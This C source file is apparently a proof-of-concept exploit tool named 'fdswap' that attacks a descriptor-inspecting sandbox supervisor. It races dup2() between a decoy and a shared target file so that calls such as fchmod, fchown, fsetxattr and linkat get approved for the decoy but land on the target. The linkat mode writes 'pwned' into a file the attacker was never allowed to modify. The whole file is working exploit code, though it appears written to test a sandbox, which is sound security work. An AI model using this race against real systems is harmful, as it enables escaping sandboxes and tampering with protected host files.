/* fdswap: the descriptor the supervisor looks at is not the one the kernel uses.
 *
 * usage: fdswap OP MS TARGET [OWN STOLEN]
 *
 * Thread B dup2()s, over and over, a decoy and an O_RDONLY descriptor of TARGET (a shared file)
 * onto one descriptor number N. Thread A calls OP on N. When the supervisor decides from the decoy
 * (a pipe, or the view's own file: CONTINUE) and the kernel then acts on TARGET, the call changes
 * the shared file.
 *
 * OP: fchmod fchown fsetxattr fremovexattr futimens   decoy: a pipe
 *     linkat   linkat(N, "", AT_FDCWD, STOLEN, AT_EMPTY_PATH), then open(STOLEN, O_WRONLY) and
 *              write: the decoy is OWN, a file the attacker creates in its view. A swap gives
 *              the shared inode a name the view takes for its own, so the write reaches it.
 * Stops after MS milliseconds, MAX_CALLS calls, or as soon as TARGET changed on the host. Exit status
 * 0, 2 on a setup failure. */
#include "attack.h"
#include <pthread.h>
#include <sys/xattr.h>

#define N 100

static int decoy, shared;
static atomic_int stop;

static void *swapper(void *arg) {
	(void)arg;
	while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
		dup2(decoy, N);
		dup2(shared, N);
	}
	return NULL;
}

int main(int argc, char **argv) {
	if (argc != 4 && argc != 6) {
		fprintf(stderr, "usage: fdswap OP MS TARGET [OWN STOLEN]\n");
		return 2;
	}
	const char *op = argv[1], *stolen = argc == 6 ? argv[5] : NULL;
	int linkat_op = !strcmp(op, "linkat");
	if (linkat_op != (stolen != NULL)) {
		fprintf(stderr, "fdswap: OWN and STOLEN go with linkat, and only with it\n");
		return 2;
	}
	struct budget b = budget_from(argv[2]);
	struct watch w = {0};
	watch_add(&w, argv[3]);
	if (w.n == 0)
		die(argv[3]);
	if ((shared = open(argv[3], O_RDONLY | O_CLOEXEC)) < 0)
		die(argv[3]);
	if (linkat_op) {
		if ((decoy = open(argv[4], O_RDWR | O_CREAT | O_EXCL | O_CLOEXEC, 0644)) < 0)
			die(argv[4]);
	} else {
		int p[2];
		if (pipe2(p, O_CLOEXEC) < 0)
			die("pipe");
		decoy = p[0];
	}
	if (dup2(decoy, N) < 0)
		die("dup2");

	pthread_t th;
	if (pthread_create(&th, NULL, swapper, NULL) != 0)
		die("pthread_create");
	struct tally t = {0};
	const char *landed = NULL;
	long calls = 0;
	while (!landed && budget_left(&b, calls)) {
		long ret;
		if (!strcmp(op, "fchmod"))
			ret = fchmod(N, 0777);
		else if (!strcmp(op, "fchown"))
			ret = fchown(N, 65534, 65534);
		else if (!strcmp(op, "fsetxattr"))
			ret = fsetxattr(N, "user.evil", "1", 1, 0);
		else if (!strcmp(op, "fremovexattr"))
			ret = fremovexattr(N, "user.x");
		else if (!strcmp(op, "futimens"))
			ret = futimens(N, NULL);
		else if (linkat_op) {
			ret = linkat(N, "", AT_FDCWD, stolen, AT_EMPTY_PATH);
			if (ret == 0) {
				int fd = open(stolen, O_WRONLY | O_CLOEXEC);
				if (fd >= 0) {
					write(fd, "pwned\n", 6);
					close(fd);
				}
				unlink(stolen);
			}
		} else {
			fprintf(stderr, "fdswap: unknown op %s\n", op);
			return 2;
		}
		tally_add(&t, ret);
		calls++;
		if (calls % 16 == 0)
			landed = watch_changed(&w);
	}
	if (!landed)
		landed = watch_changed(&w);
	atomic_store(&stop, 1);
	pthread_join(th, NULL);
	report(op, landed, calls, &b);
	tally_print(&t);
	return 0;
}
